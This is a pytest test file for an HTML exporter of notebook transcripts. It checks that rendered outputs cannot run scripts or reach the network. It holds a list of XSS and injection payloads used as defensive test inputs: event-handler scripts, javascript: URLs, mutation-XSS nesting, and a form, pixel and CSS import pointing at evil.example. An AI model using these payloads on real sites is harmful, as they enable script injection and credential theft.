"""A notebook as a page that needs nothing and runs nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from podflare_nb.transcripts.export import export

PNG = "iVBORw0KGgo="
TABLE = '<table class="dataframe"><thead><tr><th>a</th></tr></thead></table>'
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<div id=app class=notice>not the service's notice</div>",
    "</pre></div></section><script>alert(1)</script>",
    "<b>&lt;script&gt;</b><scr<script>ipt>alert(1)</scr</script>ipt>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
]
ACTIVE = {"script", "iframe", "object", "embed", "form", "input", "button", "base", "link", "svg", "video"}


class Elements(HTMLParser):
    """All elements of a page with their attributes, and its styles."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.styles = ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        if self.found and self.found[-1][0] == "style":
            self.styles += data


def forbidden(page):
    """What a page must not have, whoever wrote its outputs."""
    elements = Elements(page)
    for tag, attributes in elements.found:
        if tag in ACTIVE:
            yield tag
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            yield "refresh"
        for name, value in attributes.items():
            if name.startswith("on") or (name in {"id", "srcdoc", "name"} and tag != "meta"):
                yield f"{tag} {name}"
            if name == "src" and not re.match(r"data:image/(png|svg\+xml|jpeg|gif|webp);base64,", value):
                yield f"{tag} {name}={value}"
            if name == "href" and not re.match(r"(https?|mailto):", value):
                yield f"{tag} {name}={value}"
            if name == "style" and "url(" in value:
                yield f"{tag} {name}={value}"
    if re.search(r"@import|url\(", elements.styles):
        yield "network in a style"


@pytest.fixture
def page(read):
    async def page():
        return export(await read(), "html")

    return page


@pytest.mark.parametrize("attack", ATTACKS)
async def test_nothing_that_is_shown_can_act(sandbox, transcript, page, attack):
    sandbox.run(
        f"print('{attack}')",
        {"output_type": "display_data", "data": {"text/html": attack}, "metadata": {}},
        {"output_type": "display_data", "data": {"text/markdown": attack}, "metadata": {}},
        {"output_type": "display_data", "data": {"text/latex": attack}, "metadata": {}},
        {"output_type": "display_data", "data": {"text/latex": f"$\\text{{{attack}}}$"}, "metadata": {}},
        {"output_type": "display_data", "data": {"image/svg+xml": attack}, "metadata": {}},
        {"output_type": "display_data", "data": {"image/png": f'"{attack}'}, "metadata": {}},
        {"output_type": "display_data", "data": {"text/vnd.mermaid": attack}, "metadata": {}},
        {"output_type": "display_data", "data": {"application/javascript": attack, attack: attack}, "metadata": {}},
        {"output_type": "display_data", "data": {"text/plain": attack}, "metadata": {}},
        {"output_type": "display_data", "data": {"image/png": PNG}, "metadata": {"image/png": {"width": attack}}},
        {"output_type": "stream", "name": "stdout", "text": attack},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
    )
    transcript.begin_turn("t1", attack)
    transcript.add_markdown("t1", "assistant", f"{attack}\n\n```html\n{attack}\n```\n\n$x {attack}$ [l]({attack})")
    transcript.end_turn("t1", "error", error=attack)
    assert list(forbidden(await page())) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_check_for_what_can_act_sees_it(attack):
    seen_by_browsers_only = ("<noscript>", "<math>", "<b>")
    if not attack.startswith(seen_by_browsers_only):
        assert list(forbidden(attack))


async def test_the_page_forbids_scripts_and_network_by_itself(page):
    policy = next(a["content"] for t, a in Elements(await page()).found if a.get("http-equiv"))
    assert policy.startswith("default-src 'none'; img-src data:;")
    assert "script-src" not in policy


async def test_a_turn_reads_as_a_conversation(sandbox, transcript, page):
    transcript.begin_turn("t1", "Plot **it**")
    sandbox.run(
        "import pandas as pd",
        {"output_type": "display_data", "data": {"image/png": PNG}, "metadata": {"image/png": {"width": 300}}},
        {
            "output_type": "execute_result",
            "data": {
                "text/html": "<style scoped>x</style>" + TABLE,
                "text/plain": "a",
            },
            "metadata": {},
        },
    )
    transcript.add_markdown("t1", "assistant", "Because $e^{i\\pi} = -1$ and\n\n$$\\frac{1}{2}$$")
    transcript.end_turn("t1", "limit", error="After 10 steps.")
    html = await page()
    assert '<section class="cell user prose">' in html
    assert "<strong>it</strong>" in html
    assert f'src="data:image/png;base64,{PNG}" width="300"' in html
    assert TABLE in html
    assert "x</style>" not in html.partition("<main>")[2]
    assert '<math display="block"><mrow><mfrac>' in html
    assert "$e^" not in html
    assert '<section class="cell notice prose">' in html
    assert "The turn ended at a limit." in html


async def test_colours_of_a_terminal_are_shown_and_overwritten_text_is_not(sandbox, page):
    sandbox.run("x", {"output_type": "stream", "name": "stdout", "text": "10%\r\x1b[31mred\x1b[0m\n"})
    html = await page()
    assert '<span class="ansi-red-fg">red</span>' in html
    assert "10%" not in html


async def test_an_output_that_is_all_script_is_shown_in_its_next_form(sandbox, page):
    data = {"text/html": "<div><script>plot()</script></div>", "text/plain": "Figure of 3 lines"}
    sandbox.run("x", {"output_type": "display_data", "data": data, "metadata": {}})
    assert "Figure of 3 lines" in await page()


async def test_a_cell_that_failed_says_how(sandbox, page):
    sandbox.end(sandbox.start("x"), "timeout", 124, message="Over 30 s.")
    html = await page()
    assert '<span class="ending">timed out</span>' in html
    assert "TimeoutError: Over 30 s." in html


async def test_text_too_long_for_a_page_is_cut_in_the_middle_and_says_so(sandbox, page):
    text = "a" * 1_000_000 + "the end"
    sandbox.run("x", {"output_type": "stream", "name": "stdout", "text": text})
    html = await page()
    assert len(html) < 400_000
    assert "characters are in the notebook only" in html
    assert "the end" in html


async def test_an_empty_notebook_is_a_page_too(page):
    assert "python-datasci" in await page()
